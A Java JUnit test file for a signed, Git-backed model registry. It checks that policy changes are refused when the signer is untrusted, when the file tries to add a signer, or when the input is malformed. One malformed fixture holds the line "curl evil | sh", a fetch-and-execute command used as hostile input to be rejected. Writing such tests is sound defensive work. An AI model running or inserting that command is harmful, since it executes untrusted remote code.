package dev.modelregistry.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.modelregistry.git.signing.SshKeys;
import dev.modelregistry.model.InvalidInputException;
import dev.modelregistry.model.MissingInputException;
import dev.modelregistry.model.Policy;
import dev.modelregistry.model.RegistryRefusedException;
import dev.modelregistry.model.SafeMapper;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A policy change without a Git checkout: one signed commit on main, by a signer with full rights,
 * that every reader then uses; refused before anything is written when the file is malformed, the
 * key may not change the policy, or the file tries to change trust on the side.
 */
class PolicyCommandTest {
  @TempDir Path dir;
  Path key;
  Registry registry;

  @BeforeEach
  void signedRegistry() {
    key = dir.resolve("keys/ops");
    registry = TestRegistry.createSigned(dir, key, "ops@example.com");
  }

  @AfterEach
  void close() {
    registry.close();
  }

  private String policyNow() {
    return SafeMapper.writeYaml(registry.policy());
  }

  private Path file(String yaml) throws Exception {
    Path f = Files.createTempFile(dir, "registry", ".yaml");
    Files.writeString(f, yaml);
    return f;
  }

  private String mainTip() {
    return TestRegistry.run(dir, "git", "-C", registry.directory().toString(), "rev-parse", "main")
        .strip();
  }

  @Test
  void aSignedChangeIsInForceAtOnceAndVerifies() throws Exception {
    String now = policyNow();
    assertTrue(now.contains("> 0.02"), now);
    PolicyCommand.Changed c =
        registry
            .changePolicy()
            .file(file(now.replace("> 0.02", "> 0.03")))
            .reason("ic floor raised after the Q3 review")
            .signingKey(key)
            .call();
    assertEquals(0, c.pendingApprovals());
    assertEquals(c.commit(), mainTip());
    assertTrue(policyNow().contains("> 0.03"), policyNow());
    assertTrue(registry.verify().call().clean());
    String message =
        TestRegistry.run(
            dir, "git", "-C", registry.directory().toString(), "log", "-1", "--format=%B%n%G?");
    assertTrue(message.contains("ic floor raised after the Q3 review"), message);
  }

  @Test
  void anUntrustedOrRollbackOnlyKeyChangesNothing() throws Exception {
    Path stranger = dir.resolve("keys/stranger");
    SshKeys.generateEd25519(stranger, "stranger@example.com");
    Path service = dir.resolve("keys/service");
    String servicePub = SshKeys.generateEd25519(service, "svc@example.com");
    registry
        .trust()
        .principal("svc@example.com")
        .publicKey(servicePub)
        .role("rollback")
        .signingKey(key)
        .call();
    String before = mainTip();
    Path next = file(policyNow().replace("> 0.02", "> 0.0"));
    for (Path k : new Path[] {stranger, service}) {
      assertThrows(
          RegistryRefusedException.class,
          () -> registry.changePolicy().file(next).reason("looser").signingKey(k).call());
    }
    assertEquals(before, mainTip(), "nothing written");
    assertTrue(policyNow().contains("> 0.02"));
  }

  @Test
  void trustIsNotChangedOnTheSide() throws Exception {
    String pub = SshKeys.generateEd25519(dir.resolve("keys/mallory"), "mallory@example.com");
    Policy widened =
        registry
            .policy()
            .withSigners(
                java.util.List.of(
                    registry.policy().signers().get(0),
                    dev.modelregistry.git.signing.TrustedSigners.line("mallory@example.com", pub)));
    String before = mainTip();
    RegistryRefusedException e =
        assertThrows(
            RegistryRefusedException.class,
            () ->
                registry
                    .changePolicy()
                    .file(file(SafeMapper.writeYaml(widened)))
                    .reason("x")
                    .signingKey(key)
                    .call());
    assertTrue(e.getMessage().contains("with trust"), e.getMessage());
    assertEquals(before, mainTip());
  }

  @Test
  void aMalformedFileANoOpAndMissingInputsAreRefusedBeforeAnythingIsWritten() throws Exception {
    String before = mainTip();
    Path unknownKey = file(policyNow() + "run_on_load: \"curl evil | sh\"\n");
    InvalidInputException bad =
        assertThrows(
            InvalidInputException.class,
            () -> registry.changePolicy().file(unknownKey).reason("x").signingKey(key).call());
    assertTrue(bad.getMessage().contains(unknownKey.toString()), bad.getMessage());
    Path alias = file("a: &a [x]\nb: *a\n");
    assertThrows(
        InvalidInputException.class,
        () -> registry.changePolicy().file(alias).reason("x").signingKey(key).call());
    RegistryRefusedException same =
        assertThrows(
            RegistryRefusedException.class,
            () ->
                registry.changePolicy().file(file(policyNow())).reason("x").signingKey(key).call());
    assertTrue(same.getMessage().contains("in force"), same.getMessage());
    assertThrows(
        MissingInputException.class,
        () -> registry.changePolicy().reason("x").signingKey(key).call());
    assertThrows(
        MissingInputException.class,
        () -> registry.changePolicy().file(unknownKey).signingKey(key).call());
    assertEquals(before, mainTip(), "nothing written");
  }
}
